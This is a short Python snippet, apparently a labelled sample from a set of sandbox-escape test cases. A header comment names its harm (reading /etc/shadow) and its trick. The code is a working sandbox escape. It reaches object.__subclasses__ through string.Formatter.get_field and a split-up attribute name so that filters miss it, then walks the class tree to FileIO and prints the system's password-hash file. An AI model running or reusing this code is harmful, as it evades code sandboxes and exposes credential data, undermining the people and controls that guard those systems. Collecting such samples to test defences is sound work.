# HARM: read /etc/shadow via FileIO | TRICK: string.Formatter subclass in the file; get_field traverses computed '0.__subclasses__' path on object, no attribute token
import string
class Fmt(string.Formatter): pass
meth = Fmt().get_field('0.' + '__sub' + 'classes__', [object], {})[0]
todo = list(meth())
while todo:
    k = todo.pop()
    if k.__name__ == 'FileIO':
        print(k('/etc/shadow').read())
        break
    sub = Fmt().get_field('0.' + '__sub' + 'classes__', [k], {})[0]
    try:
        todo.extend(sub())
    except TypeError:
        pass
